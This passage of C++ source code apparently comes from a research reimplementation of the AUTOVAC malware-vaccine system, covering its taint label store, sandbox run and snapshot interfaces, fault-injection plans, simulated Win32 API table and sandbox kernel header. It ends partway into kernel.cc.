    label = const_cast<LabelStore&>(store_).Union(label, mem_[addr + i]);
  }
  return label;
}

void TaintMap::SetRange(uint32_t addr, uint32_t size, LabelSetId label) {
  for (uint32_t i = 0; i < size && addr + i < mem_.size(); ++i) {
    mem_[addr + i] = label;
  }
}

}  // namespace autovac::taint
