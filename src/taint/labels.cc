#include "taint/labels.h"

#include <algorithm>

namespace autovac::taint {

LabelSetId LabelStore::AddSource(TaintSource source) {
  const auto index = static_cast<uint32_t>(sources_.size());
  sources_.push_back(std::move(source));
  return InternSet({index});
}

LabelSetId LabelStore::InternSet(std::vector<uint32_t> sorted) {
  auto it = set_ids_.find(sorted);
  if (it != set_ids_.end()) return it->second;
  const auto id = static_cast<LabelSetId>(sets_.size());
  set_ids_.emplace(sorted, id);
  sets_.push_back(std::move(sorted));
  return id;
}

LabelSetId LabelStore::Union(LabelSetId a, LabelSetId b) {
  if (a == b || b == kEmptySet) return a;
  if (a == kEmptySet) return b;
  if (a > b) std::swap(a, b);
  auto cached = union_cache_.find({a, b});
  if (cached != union_cache_.end()) return cached->second;

  const auto& sa = Sources(a);
  const auto& sb = Sources(b);
  std::vector<uint32_t> merged;
  merged.reserve(sa.size() + sb.size());
  std::set_union(sa.begin(), sa.end(), sb.begin(), sb.end(),
                 std::back_inserter(merged));
  const LabelSetId id = InternSet(std::move(merged));
  union_cache_.emplace(std::make_pair(a, b), id);
  return id;
}

}  // namespace autovac::taint
