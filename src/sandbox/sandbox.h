// The analysis sandbox: loads a program into a fresh VM over a given host
// environment, runs it under taint instrumentation with optional API
// hooks, and returns the traces the AUTOVAC pipeline consumes.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "os/host_environment.h"
#include "sandbox/faults.h"
#include "sandbox/hooks.h"
#include "sandbox/kernel.h"
#include "taint/engine.h"
#include "trace/trace.h"
#include "vm/assembler.h"
#include "vm/disassembler.h"
#include "vm/program.h"

namespace autovac::sandbox {

// Execution-envelope caps beyond the cycle budget; 0 = unlimited. A
// tripped cap stops the run with the matching StopReason (kCallDepthLimit,
// kApiCallLimit, kTraceLimit) instead of faulting or growing unboundedly.
struct RunLimits {
  uint32_t max_call_depth = 0;
  uint64_t max_api_calls = 0;
  size_t max_instruction_records = 0;
  size_t max_api_records = 0;
};

struct RunOptions {
  // The paper profiles each sample for 1 minute (§VI-B).
  uint64_t cycle_budget = kOneMinuteBudget;
  // Record the instruction-level trace (needed for determinism analysis).
  bool record_instructions = false;
  // Enable forward taint tracking (Phase-I candidate selection).
  bool enable_taint = true;
  taint::TaintEngineOptions taint_options;
  // When non-zero, read a C string at this address after the run (used by
  // the vaccine daemon to capture a replayed slice's output identifier).
  uint32_t capture_cstring_addr = 0;
  // Hard caps on call depth, API calls and trace growth.
  RunLimits limits;
  // Deterministic fault schedule for this run; null (the default) injects
  // nothing and costs one pointer test per API call. The plan is shared,
  // immutable state — per-run counters live inside RunProgram.
  const FaultPlan* fault_plan = nullptr;
};

struct RunResult {
  vm::StopReason stop_reason = vm::StopReason::kRunning;
  std::string fault_message;
  uint64_t cycles_used = 0;
  trace::ApiTrace api_trace;
  trace::InstructionTrace instruction_trace;
  std::vector<taint::PredicateEvent> predicates;
  // Label store interpreting the predicate label sets.
  std::shared_ptr<taint::LabelStore> labels;
  // Contents of capture_cstring_addr after the run.
  std::string captured_output;
  // Faults the injection layer delivered (0 when no plan was installed).
  size_t faults_injected = 0;

  [[nodiscard]] bool AnyTaintedPredicate() const { return !predicates.empty(); }
};

// Runs `program` against `env` (which it mutates — the infection).
// Copy `env` first when the original machine state must be preserved.
[[nodiscard]] RunResult RunProgram(const vm::Program& program,
                                   os::HostEnvironment& env,
                                   const RunOptions& options = {},
                                   const std::vector<ApiHook>& hooks = {});

// ApiResolver for the assembler, backed by the sandbox API table.
[[nodiscard]] vm::ApiResolver SandboxApiResolver();

// ApiNamer for the disassembler.
[[nodiscard]] vm::ApiNamer SandboxApiNamer();

// Convenience: assemble with the sandbox API table.
[[nodiscard]] Result<vm::Program> AssembleForSandbox(std::string_view source);

}  // namespace autovac::sandbox
