// The analysis sandbox: loads a program into a fresh VM over a given host
// environment, runs it under taint instrumentation with optional API
// hooks, and returns the traces the AUTOVAC pipeline consumes.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "os/host_environment.h"
#include "sandbox/hooks.h"
#include "sandbox/kernel.h"
#include "taint/engine.h"
#include "trace/trace.h"
#include "vm/assembler.h"
#include "vm/disassembler.h"
#include "vm/program.h"

namespace autovac::sandbox {

struct RunOptions {
  // The paper profiles each sample for 1 minute (§VI-B).
  uint64_t cycle_budget = kOneMinuteBudget;
  // Record the instruction-level trace (needed for determinism analysis).
  bool record_instructions = false;
  // Enable forward taint tracking (Phase-I candidate selection).
  bool enable_taint = true;
  taint::TaintEngineOptions taint_options;
  // When non-zero, read a C string at this address after the run (used by
  // the vaccine daemon to capture a replayed slice's output identifier).
  uint32_t capture_cstring_addr = 0;
};

struct RunResult {
  vm::StopReason stop_reason = vm::StopReason::kRunning;
  std::string fault_message;
  uint64_t cycles_used = 0;
  trace::ApiTrace api_trace;
  trace::InstructionTrace instruction_trace;
  std::vector<taint::PredicateEvent> predicates;
  // Label store interpreting the predicate label sets.
  std::shared_ptr<taint::LabelStore> labels;
  // Contents of capture_cstring_addr after the run.
  std::string captured_output;

  [[nodiscard]] bool AnyTaintedPredicate() const { return !predicates.empty(); }
};

// Runs `program` against `env` (which it mutates — the infection).
// Copy `env` first when the original machine state must be preserved.
[[nodiscard]] RunResult RunProgram(const vm::Program& program,
                                   os::HostEnvironment& env,
                                   const RunOptions& options = {},
                                   const std::vector<ApiHook>& hooks = {});

// ApiResolver for the assembler, backed by the sandbox API table.
[[nodiscard]] vm::ApiResolver SandboxApiResolver();

// ApiNamer for the disassembler.
[[nodiscard]] vm::ApiNamer SandboxApiNamer();

// Convenience: assemble with the sandbox API table.
[[nodiscard]] Result<vm::Program> AssembleForSandbox(std::string_view source);

}  // namespace autovac::sandbox
