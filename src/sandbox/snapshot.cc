#include "sandbox/snapshot.h"

namespace autovac::sandbox {

size_t MachineSnapshot::ApproxBytes() const {
  size_t bytes = sizeof(MachineSnapshot);
  bytes += api_name.size() + identifier.size();
  bytes += vm::kMemSize;  // the memory image dominates
  bytes += kernel.trace.calls.size() * sizeof(trace::ApiCallRecord);
  bytes += kernel.shadow_stack.size() * sizeof(uint32_t);
  if (taint.has_value()) {
    bytes += taint->map.mem.size() * sizeof(taint::LabelSetId);
    bytes += taint->predicates.size() * sizeof(taint::PredicateEvent);
  }
  return bytes;
}

const MachineSnapshot* SnapshotRecorder::Find(
    const std::string& api_name, uint32_t caller_pc,
    const std::string& identifier) const {
  auto it = by_triple_.find(std::make_tuple(api_name, caller_pc, identifier));
  if (it == by_triple_.end()) return nullptr;
  return &snapshots_[it->second];
}

size_t SnapshotRecorder::total_bytes() const {
  size_t total = 0;
  for (const MachineSnapshot& snapshot : snapshots_) {
    total += snapshot.ApproxBytes();
  }
  return total;
}

bool SnapshotRecorder::ShouldCapture(const std::string& api_name,
                                     uint32_t caller_pc,
                                     const std::string& identifier) {
  if (by_triple_.count(std::make_tuple(api_name, caller_pc, identifier)) > 0) {
    return false;
  }
  if (cap_ != 0 && snapshots_.size() >= cap_) {
    overflowed_ = true;
    return false;
  }
  return true;
}

void SnapshotRecorder::Add(MachineSnapshot snapshot) {
  by_triple_[std::make_tuple(snapshot.api_name, snapshot.caller_pc,
                             snapshot.identifier)] = snapshots_.size();
  snapshots_.push_back(std::move(snapshot));
}

}  // namespace autovac::sandbox
