// Deterministic fault injection for the sandbox kernel.
//
// Real-world profiling campaigns (§VI) run thousands of hostile samples
// whose environments fail in every way an OS can fail: API errors,
// handle-table exhaustion, namespace quotas, full disks, dropped or
// delayed instrumentation callbacks. A FaultPlan describes such an
// environment as data — seedable and bit-for-bit reproducible — and a
// FaultInjector replays it against one run. When no plan is installed the
// kernel pays a single null-pointer test per API call.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sandbox/api_ids.h"
#include "support/rng.h"

namespace autovac::sandbox {

// What a triggered rule does to the matched API call.
enum class FaultAction : uint8_t {
  kFailCall = 0,  // force failure with `error` before the real semantics
  kDropHooks,     // suppress interposition hooks for this call
  kDelayCall,     // consume extra virtual cycles (slow I/O, contention)
};

[[nodiscard]] const char* FaultActionName(FaultAction action);

// One injection rule. Matches calls by API id (kApiCount = any API) and
// triggers either on an exact occurrence index or with a probability.
struct FaultRule {
  ApiId api = ApiId::kApiCount;  // kApiCount matches every API
  // Fires exactly once, on the `occurrence`-th matching call (0-based);
  // negative = trigger by probability instead.
  int32_t occurrence = -1;
  double probability = 0.0;  // per-call trigger chance when occurrence < 0
  FaultAction action = FaultAction::kFailCall;
  uint32_t error = 0;           // last-error code for kFailCall
  uint64_t delay_cycles = 0;    // virtual cycles for kDelayCall
};

// Simulated resource-exhaustion ceilings; 0 means unlimited. Quotas are
// checked against live kernel/namespace state before each call, so they
// model "the machine ran out", not "this call fails once".
struct ResourceQuotas {
  uint32_t max_handles = 0;     // open handles (handle-table full)
  uint32_t max_objects = 0;     // named objects in the namespace
  uint64_t max_file_bytes = 0;  // total stored file bytes (disk full)

  [[nodiscard]] bool Unlimited() const {
    return max_handles == 0 && max_objects == 0 && max_file_bytes == 0;
  }
};

// A reproducible fault schedule: rules plus quotas plus the seed that
// drives every probabilistic draw. Immutable once built — per-run state
// lives in the FaultInjector, so one plan can serve a whole campaign.
class FaultPlan {
 public:
  FaultPlan() = default;
  explicit FaultPlan(uint64_t seed) : seed_(seed) {}

  void AddRule(FaultRule rule) { rules_.push_back(rule); }
  void set_quotas(ResourceQuotas quotas) { quotas_ = quotas; }

  [[nodiscard]] uint64_t seed() const { return seed_; }
  [[nodiscard]] const std::vector<FaultRule>& rules() const { return rules_; }
  [[nodiscard]] const ResourceQuotas& quotas() const { return quotas_; }
  [[nodiscard]] bool empty() const {
    return rules_.empty() && quotas_.Unlimited();
  }

  // Chaos-campaign generator: a randomized but fully seed-determined mix
  // of probabilistic failures, occurrence-indexed failures, dropped
  // hooks, delays, and (sometimes) tight resource quotas. `fault_rate` is
  // the approximate per-call probability of the blanket failure rule.
  [[nodiscard]] static FaultPlan Randomized(uint64_t seed, double fault_rate);

  // One-line description for logs and CLI banners.
  [[nodiscard]] std::string Summary() const;

 private:
  uint64_t seed_ = 0;
  std::vector<FaultRule> rules_;
  ResourceQuotas quotas_;
};

// Per-run dispatcher: owns the occurrence counters and the probability
// stream, so two runs under the same plan inject identical faults.
class FaultInjector {
 public:
  explicit FaultInjector(const FaultPlan& plan);

  // Combined verdict for one API call, evaluated before its semantics.
  struct Decision {
    bool fail = false;          // force the call to fail...
    uint32_t error = 0;         // ...with this last-error code
    bool drop_hooks = false;    // skip interposition hooks
    uint64_t delay_cycles = 0;  // extra virtual time to charge
  };

  // Advances the injector's state (counters + probability stream) and
  // returns what to do with this call.
  [[nodiscard]] Decision OnApiCall(ApiId id);

  [[nodiscard]] const FaultPlan& plan() const { return plan_; }
  [[nodiscard]] const ResourceQuotas& quotas() const {
    return plan_.quotas();
  }
  [[nodiscard]] size_t faults_injected() const { return faults_injected_; }
  void CountQuotaDenial() { ++faults_injected_; }

 private:
  const FaultPlan& plan_;
  Rng rng_;
  // Calls seen so far per API id, plus one slot for the any-API wildcard.
  std::vector<uint32_t> calls_seen_;
  std::vector<bool> rule_fired_;  // occurrence rules fire at most once
  size_t faults_injected_ = 0;
};

}  // namespace autovac::sandbox
