// Machine-state checkpointing for mutation re-runs — the fast path behind
// snapshot replay and `--mutation-threads`.
//
// During a profiling (phase-1) run, a SnapshotRecorder captures one
// MachineSnapshot at the FIRST occurrence of each distinct resource-API
// call triple (api name, caller pc, identifier) — the same triple a
// mutation hook matches. A mutation re-run for a target whose triple was
// captured can then restore the snapshot and resume from the call site
// instead of replaying the whole prefix.
//
// Why a resumed run reproduces the legacy full re-run byte-for-byte:
// both start from identical baseline machines; the mutation hook is a
// pure function that returns "no interposition" for every call before
// the first occurrence of its triple; taint tracking observes machine
// state but never alters it; and the fault injector's per-run cursor
// (occurrence counters + probability stream) is part of the snapshot.
// So the hooked full run's machine state on reaching the target call is
// exactly the state the snapshot holds. The one precondition is that
// the resume uses the capture run's cycle budget: under a smaller
// budget a full re-run could have stopped *inside* the skipped prefix,
// which no resume can reproduce. See DESIGN.md §9.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <tuple>
#include <vector>

#include "os/host_environment.h"
#include "sandbox/faults.h"
#include "sandbox/kernel.h"
#include "sandbox/sandbox.h"
#include "taint/engine.h"
#include "vm/cpu.h"
#include "vm/memory.h"

namespace autovac::sandbox {

// Everything needed to resume execution at a resource-API call site as
// if the program had run there from scratch. Move-only (the memory image
// alone is 1 MiB). The fault-injection cursor references the capture
// run's FaultPlan, which must outlive the snapshot.
struct MachineSnapshot {
  // HostEnvironment has no default state to construct from; a snapshot
  // starts life as a copy of the capture run's environment.
  explicit MachineSnapshot(const os::HostEnvironment& env_copy)
      : env(env_copy) {}

  // The call triple the snapshot was captured at (its first occurrence
  // in the capture run's trace).
  std::string api_name;
  uint32_t caller_pc = 0;
  std::string identifier;

  vm::CpuSnapshot cpu;
  vm::Memory memory;
  os::HostEnvironment env;
  KernelSnapshot kernel;
  // Fault-injection cursor at the capture point; null when the capture
  // run had no fault plan installed.
  std::unique_ptr<FaultInjector> injector;
  // Taint-engine state, captured only on request (CaptureOptions): the
  // shadow memory costs 4x the machine image. `labels` is the label
  // store copy the state's set ids index into.
  std::shared_ptr<taint::LabelStore> labels;
  std::optional<taint::TaintEngineState> taint;
  // Cycle budget of the capturing run; resumes under a different budget
  // must fall back to a full re-run (see file comment).
  uint64_t capture_budget = 0;

  [[nodiscard]] size_t ApproxBytes() const;
};

// Collects snapshots during RunProgramWithCapture: the first occurrence
// of each distinct triple, at most `cap` in total. Single-threaded by
// design — captures happen inside one sandbox run; concurrent readers
// are fine once the run finished.
class SnapshotRecorder {
 public:
  explicit SnapshotRecorder(size_t cap = 32) : cap_(cap) {}

  // The snapshot captured for a triple, or null.
  [[nodiscard]] const MachineSnapshot* Find(
      const std::string& api_name, uint32_t caller_pc,
      const std::string& identifier) const;

  [[nodiscard]] size_t size() const { return snapshots_.size(); }
  // True when at least one triple went uncaptured because the cap was
  // hit; callers fall back to full re-runs for missing triples.
  [[nodiscard]] bool overflowed() const { return overflowed_; }
  [[nodiscard]] size_t total_bytes() const;

  // Capture-side interface, used by RunProgramWithCapture: whether this
  // triple still needs a snapshot (false marks overflow once the cap is
  // reached), and the insertion of a finished capture.
  [[nodiscard]] bool ShouldCapture(const std::string& api_name,
                                   uint32_t caller_pc,
                                   const std::string& identifier);
  void Add(MachineSnapshot snapshot);

 private:
  size_t cap_;
  bool overflowed_ = false;
  std::vector<MachineSnapshot> snapshots_;
  std::map<std::tuple<std::string, uint32_t, std::string>, size_t> by_triple_;
};

struct CaptureOptions {
  // Also capture taint-engine state (expensive: a shadow-memory copy per
  // snapshot). Off for the pipeline fast path, whose resumed runs are
  // taint-free like the legacy impact re-runs they replace.
  bool capture_taint = false;
};

// RunProgram, additionally capturing machine snapshots into `recorder`
// at the first occurrence of every distinct resource-API call triple.
// The probe copies state but never mutates it: the run's result and the
// machine it leaves behind are identical to a plain RunProgram.
[[nodiscard]] RunResult RunProgramWithCapture(
    const vm::Program& program, os::HostEnvironment& env,
    const RunOptions& options, const std::vector<ApiHook>& hooks,
    SnapshotRecorder& recorder, const CaptureOptions& capture = {});

struct ResumeOptions {
  // Must equal the snapshot's capture_budget for full-run equivalence.
  uint64_t cycle_budget = kOneMinuteBudget;
  // Resume taint tracking from the snapshot's taint state. Requires a
  // snapshot captured with CaptureOptions.capture_taint.
  bool enable_taint = false;
  taint::TaintEngineOptions taint_options;
  // Execution-envelope caps; use the capture run's values.
  RunLimits limits;
};

// Restores `snapshot` onto a private machine copy and resumes execution
// with `hooks` installed, re-executing the captured call first. The
// result is full-run equivalent: the API trace starts with the captured
// prefix records. Resumed runs never record an instruction trace.
[[nodiscard]] RunResult ResumeProgram(const vm::Program& program,
                                      const MachineSnapshot& snapshot,
                                      const ResumeOptions& options,
                                      const std::vector<ApiHook>& hooks = {});

}  // namespace autovac::sandbox
