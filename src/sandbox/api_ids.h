// The sandbox system-API surface and its labelling table.
//
// The paper "examined over 800 windows APIs" and hooked 89 resource-
// related calls as taint sources (§VI-B). Every API here carries the
// metadata of the paper's Table I: resource type, operation, where the
// resource-identifier lives (a string argument or a handle argument that
// maps back to a name), and whether the tainted value is the return value
// or an out-argument. Signatures are simplified (cdecl-like, 32-bit slots,
// result in EAX) but names and success/failure semantics mirror Win32.
#pragma once

#include <cstdint>
#include <optional>
#include <string_view>

#include "os/resources.h"

namespace autovac::sandbox {

enum class ApiId : int32_t {
  // --- file ---------------------------------------------------------
  kCreateFileA = 0,   // (lpFileName, dwCreationDisposition) -> HANDLE
  kOpenFileA,         // (lpFileName) -> HANDLE
  kReadFile,          // (hFile, lpBuffer, nBytes) -> BOOL
  kWriteFile,         // (hFile, lpBuffer, nBytes) -> BOOL
  kDeleteFileA,       // (lpFileName) -> BOOL
  kCloseHandle,       // (hObject) -> BOOL
  kGetFileAttributesA,// (lpFileName) -> attrs | 0xFFFFFFFF
  kSetFileAttributesA,// (lpFileName, attrs) -> BOOL
  kCopyFileA,         // (lpExisting, lpNew) -> BOOL
  kMoveFileA,         // (lpExisting, lpNew) -> BOOL
  kGetTempFileNameA,  // (lpBuffer) -> len; writes a fresh temp path
  kCreateDirectoryA,  // (lpPath) -> BOOL
  kGetFileSize,       // (hFile) -> size | 0xFFFFFFFF
  kFindFirstFileA,    // (lpPattern) -> HANDLE (existence probe)

  // --- synchronisation ------------------------------------------------
  kCreateMutexA,      // (bInitialOwner, lpName) -> HANDLE
  kOpenMutexA,        // (dwAccess, lpName) -> HANDLE
  kReleaseMutex,      // (hMutex) -> BOOL
  kWaitForSingleObject,  // (hObject, dwMillis) -> DWORD

  // --- registry ---------------------------------------------------------
  kRegCreateKeyA,     // (lpPath) -> HANDLE (0 on failure)
  kRegOpenKeyA,       // (lpPath) -> HANDLE (0 on failure)
  kRegQueryValueExA,  // (hKey, lpValueName, lpBuffer, nBytes) -> ERROR_*
  kRegSetValueExA,    // (hKey, lpValueName, lpData) -> ERROR_*
  kRegDeleteKeyA,     // (lpPath) -> ERROR_*
  kRegCloseKey,       // (hKey) -> ERROR_*
  kRegEnumKeyA,       // (hKey, index, lpBuffer, nBytes) -> ERROR_*

  // --- process -----------------------------------------------------------
  kCreateProcessA,    // (lpApplicationName) -> BOOL
  kOpenProcess,       // (dwAccess, pid) -> HANDLE
  kTerminateProcess,  // (hProcess) -> BOOL
  kExitProcess,       // (uExitCode) -> never returns
  kExitThread,        // (uExitCode) -> never returns (single-thread model)
  kTerminateThread,   // (hThread) -> BOOL (self model: terminates run)
  kWriteProcessMemory,// (hProcess, lpBuffer, nBytes) -> BOOL
  kReadProcessMemory, // (hProcess, lpBuffer, nBytes) -> BOOL
  kCreateRemoteThread,// (hProcess, lpPayloadName) -> HANDLE
  kVirtualAllocEx,    // (hProcess, nBytes) -> address
  kCreateToolhelp32Snapshot,  // () -> HANDLE
  kProcess32FindA,    // (hSnapshot, lpImageName) -> pid | 0
  kGetCurrentProcessId,  // () -> pid
  kGetCurrentProcess, // () -> pseudo-handle

  // --- service (SCM) -------------------------------------------------------
  kOpenSCManagerA,    // () -> HANDLE
  kCreateServiceA,    // (hSCM, lpServiceName, lpBinaryPath) -> HANDLE
  kOpenServiceA,      // (hSCM, lpServiceName) -> HANDLE
  kStartServiceA,     // (hService) -> BOOL
  kDeleteService,     // (hService) -> BOOL
  kCloseServiceHandle,// (hHandle) -> BOOL

  // --- window ---------------------------------------------------------------
  kFindWindowA,       // (lpClassName, lpWindowTitle) -> HWND
  kRegisterClassA,    // (lpClassName) -> ATOM | 0
  kCreateWindowExA,   // (lpClassName, lpTitle) -> HWND
  kShowWindow,        // (hWnd, nCmdShow) -> BOOL

  // --- library ----------------------------------------------------------------
  kLoadLibraryA,      // (lpLibName) -> HMODULE
  kGetModuleHandleA,  // (lpLibName) -> HMODULE
  kGetProcAddress,    // (hModule, lpProcName) -> address
  kFreeLibrary,       // (hModule) -> BOOL

  // --- system information --------------------------------------------------------
  kGetComputerNameA,  // (lpBuffer, nSize) -> BOOL       [environment]
  kGetUserNameA,      // (lpBuffer, nSize) -> BOOL       [environment]
  kGetVolumeInformationA,  // () -> serial DWORD          [environment]
  kGetSystemDirectoryA,    // (lpBuffer, nSize) -> len    [environment]
  kGetWindowsDirectoryA,   // (lpBuffer, nSize) -> len    [environment]
  kGetTempPathA,      // (lpBuffer, nSize) -> len          [environment]
  kGetVersion,        // () -> version DWORD               [environment]
  kGetTickCount,      // () -> millis                      [random]
  kQueryPerformanceCounter,  // (lpBuffer) -> BOOL         [random]
  kGetSystemTime,     // (lpBuffer16) -> void              [random]
  kGetLastError,      // () -> last error
  kSetLastError,      // (dwErr) -> void
  kSleep,             // (dwMillis) -> void
  kGetCommandLineA,   // () -> pointer to command line

  // --- network ------------------------------------------------------------------
  kWSAStartup,        // () -> 0
  kSocket,            // () -> SOCKET
  kConnect,           // (s, lpHost, port) -> 0 | -1
  kSend,              // (s, lpBuffer, nBytes) -> bytes sent
  kRecv,              // (s, lpBuffer, nBytes) -> bytes received  [random]
  kClosesocket,       // (s) -> 0
  kGethostbyname,     // (lpName) -> fake hostent address | 0
  kDnsQueryA,         // (lpName) -> 0 | 9003
  kInternetOpenA,     // (lpAgent) -> HINTERNET
  kInternetConnectA,  // (hInternet, lpHost, port) -> HINTERNET
  kHttpOpenRequestA,  // (hConnect, lpPath) -> HINTERNET
  kHttpSendRequestA,  // (hRequest) -> BOOL
  kInternetReadFile,  // (hRequest, lpBuffer, nBytes) -> BOOL      [random]
  kURLDownloadToFileA,// (lpUrl, lpFileName) -> 0 | error

  // --- string / format helpers ------------------------------------------------------
  kLstrcpyA,          // (lpDest, lpSrc) -> lpDest
  kLstrcatA,          // (lpDest, lpSrc) -> lpDest
  kLstrlenA,          // (lpStr) -> length
  kLstrcmpA,          // (lpA, lpB) -> -1|0|1
  kLstrcmpiA,         // (lpA, lpB) -> -1|0|1 (case-insensitive)
  kWsprintfA,         // (lpDest, lpFmt, ...) -> length; %s %d %u %x %c
  kRtlComputeCrc32,   // (initial, lpBuffer, nBytes) -> crc32
  kItoa,              // (value, lpDest, radix) -> lpDest
  kCharUpperA,        // (lpStr) -> lpStr, in place
  kCharLowerA,        // (lpStr) -> lpStr, in place

  // --- misc ---------------------------------------------------------------------------
  kVirtualAlloc,      // (nBytes) -> address
  kWinExec,           // (lpCmdLine) -> >31 on success
  kRand,              // () -> pseudo-random                [random]
  kSrand,             // (seed) -> void

  kApiCount,
};

inline constexpr size_t kNumApis = static_cast<size_t>(ApiId::kApiCount);

// How an API's fresh output bytes relate to the machine, for the
// determinism analysis (§IV-C): environment-derived values make an
// identifier algorithm-deterministic; random values make it
// non-deterministic.
enum class ApiDeterminism : uint8_t {
  kNone = 0,      // not a data source
  kEnvironment,   // deterministic per machine (computer name, serial...)
  kRandom,        // non-deterministic (tick count, temp names, recv)
};

// Labelling-table entry (the generalization of the paper's Table I).
struct ApiSpec {
  ApiId id = ApiId::kApiCount;
  const char* name = "";
  uint8_t num_args = 0;

  // Resource labelling: only resource APIs become taint sources.
  bool is_resource_api = false;
  os::ResourceType resource_type = os::ResourceType::kFile;
  os::Operation operation = os::Operation::kOpen;
  int8_t identifier_arg = -1;  // arg index holding the identifier string
  int8_t handle_arg = -1;      // arg index holding a handle mapped to a name
  bool returns_handle = false; // EAX is a handle on success
  bool taint_return = true;    // taint EAX (most APIs; Table I row 1)

  ApiDeterminism determinism = ApiDeterminism::kNone;

  // Counted as "network-related" for Type-II partial immunization.
  bool is_network = false;
};

// Full table, indexed by ApiId.
[[nodiscard]] const ApiSpec& GetApiSpec(ApiId id);

// Name <-> id lookups (names are case-sensitive, matching Win32 spelling).
[[nodiscard]] std::optional<ApiId> FindApiByName(std::string_view name);
[[nodiscard]] std::string_view ApiName(ApiId id);

// Number of APIs flagged as resource taint sources (the paper's "89").
[[nodiscard]] size_t CountResourceApis();

}  // namespace autovac::sandbox
