// The sandbox kernel: dispatches `sys` traps against the host
// environment, maintains handles and last-error state, records the API
// trace with full calling context, introduces taint per the labelling
// table, and consults interposition hooks (mutation / vaccine daemon)
// before every call.
#pragma once

#include <functional>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "os/host_environment.h"
#include "sandbox/api_ids.h"
#include "sandbox/faults.h"
#include "sandbox/handle_table.h"
#include "sandbox/hooks.h"
#include "taint/engine.h"
#include "trace/trace.h"
#include "vm/cpu.h"

namespace autovac::sandbox {

// Virtual-time scale: one CPU cycle = 10 microseconds, so the paper's
// 1-minute profiling run is a 6,000,000-cycle budget.
inline constexpr uint64_t kCyclesPerMilli = 100;
inline constexpr uint64_t kOneMinuteBudget = 60'000 * kCyclesPerMilli;
inline constexpr uint64_t kFiveMinuteBudget = 5 * kOneMinuteBudget;

// Deep copy of the kernel's per-run state at an API-call boundary, taken
// by the pre-call probe before the call's semantics execute. Per-call
// scratch (pending taint outputs, the identifier address) is deliberately
// absent: a resumed OnSyscall rebuilds it from the top. The matching host
// environment is snapshotted separately — it is a value type.
struct KernelSnapshot {
  trace::ApiTrace trace;
  HandleTable handles;
  std::vector<uint32_t> shadow_stack;
  uint32_t last_error = 0;
  uint32_t self_pid = 0;
  uint32_t heap_cursor = 0;
  uint32_t rand_state = 0;
  uint32_t command_line_addr = 0;
  std::set<std::string> loaded_modules;
};

class Kernel : public vm::SyscallHandler {
 public:
  // `taint_engine` may be null (taint-free runs, e.g. clinic tests).
  Kernel(os::HostEnvironment& env, taint::TaintEngine* taint_engine,
         std::string self_image_name);

  // Restore constructor: reattaches snapshotted kernel state to a
  // restored environment copy. Skips the fresh-boot side effects of the
  // normal constructor (self-process spawn, entropy draw) — the restored
  // `env` already carries both.
  Kernel(os::HostEnvironment& env, taint::TaintEngine* taint_engine,
         const KernelSnapshot& snapshot);

  void OnSyscall(vm::Cpu& cpu, int64_t api_id) override;

  // Copies everything a resumed run needs. Valid from a pre-call probe.
  [[nodiscard]] KernelSnapshot Snapshot() const;

  // Probe invoked on every *resource*-API call after the trace record's
  // pre-execution fields (name, caller pc, identifier, params) are built
  // but before any cycle charge, fault injection, interposition, or
  // execution — the exact point a machine snapshot must capture so that
  // a restored run re-executes the call from scratch.
  using PreCallProbe =
      std::function<void(const trace::ApiCallRecord&, vm::Cpu&)>;
  void set_pre_call_probe(PreCallProbe probe) { probe_ = std::move(probe); }

  void AddHook(ApiHook hook) { hooks_.push_back(std::move(hook)); }

  // Installs a per-run fault injector (may be null — the default — in
  // which case the dispatch path pays one pointer test per call).
  void set_fault_injector(FaultInjector* injector) { injector_ = injector; }

  // Stops the run with StopReason::kTraceLimit once the API trace holds
  // this many records; 0 = unlimited.
  void set_max_api_records(size_t cap) { max_api_records_ = cap; }

  [[nodiscard]] trace::ApiTrace& trace() { return trace_; }
  [[nodiscard]] const trace::ApiTrace& trace() const { return trace_; }

  [[nodiscard]] os::HostEnvironment& env() { return env_; }
  [[nodiscard]] HandleTable& handles() { return handles_; }
  [[nodiscard]] uint32_t self_pid() const { return self_pid_; }
  [[nodiscard]] uint32_t last_error() const { return last_error_; }

  // Tracks call/ret so API records carry the paper's call-stack context.
  void OnCall(uint32_t return_pc) { shadow_stack_.push_back(return_pc); }
  void OnRet() {
    if (!shadow_stack_.empty()) shadow_stack_.pop_back();
  }

  // Index of the API record produced by the most recent syscall, or -1.
  [[nodiscard]] int32_t last_api_sequence() const {
    return trace_.calls.empty()
               ? -1
               : static_cast<int32_t>(trace_.calls.back().sequence);
  }

 private:
  os::HostEnvironment& env_;
  taint::TaintEngine* taint_;
  trace::ApiTrace trace_;
  HandleTable handles_;
  std::vector<ApiHook> hooks_;
  PreCallProbe probe_;
  FaultInjector* injector_ = nullptr;
  size_t max_api_records_ = 0;
  std::vector<uint32_t> shadow_stack_;
  uint32_t last_error_ = 0;
  uint32_t self_pid_ = 0;
  uint32_t heap_cursor_;  // VirtualAlloc bump pointer
  uint32_t rand_state_ = 0x2F6E2B1;
  uint32_t command_line_addr_ = 0;  // lazily materialized GetCommandLineA
  uint32_t identifier_addr_ = 0;    // scratch set by ResolveIdentifier

  // Scratch state handlers fill during Execute(); the kernel turns it
  // into taint after the call completes.
  std::vector<std::pair<uint32_t, uint32_t>> pending_taint_outputs_;
  std::vector<std::pair<uint32_t, uint32_t>> pending_eax_sources_;
  taint::LabelSetId pending_eax_label_ = taint::kEmptySet;
  // Label of the resource call that last set last_error, so GetLastError
  // returns a tainted value (the Table I "Failure" row).
  taint::LabelSetId last_error_label_ = taint::kEmptySet;

  // Resolves the resource identifier for hook/trace purposes.
  std::string ResolveIdentifier(const ApiSpec& spec, vm::Cpu& cpu);

  // Synthesizes a convention-correct EAX for a forced outcome.
  uint32_t SynthesizeResult(const ApiSpec& spec, bool success,
                            uint32_t last_error,
                            const std::string& identifier);

  // The big dispatch: executes the real semantics of one API.
  void Execute(ApiId id, const ApiSpec& spec, vm::Cpu& cpu,
               trace::ApiCallRecord& record);
  void ExecuteWsprintf(vm::Cpu& cpu, trace::ApiCallRecord& record);

  std::set<std::string> loaded_modules_;
};

}  // namespace autovac::sandbox
