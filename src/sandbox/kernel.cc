#include "sandbox/kernel.h"

#include "support/metrics.h"
#include "support/strings.h"

namespace autovac::sandbox {
namespace {

// Cached registry handles for the dispatch path: one per-API counter plus
// totals and quota high-water gauges, resolved once per process.
struct KernelMetrics {
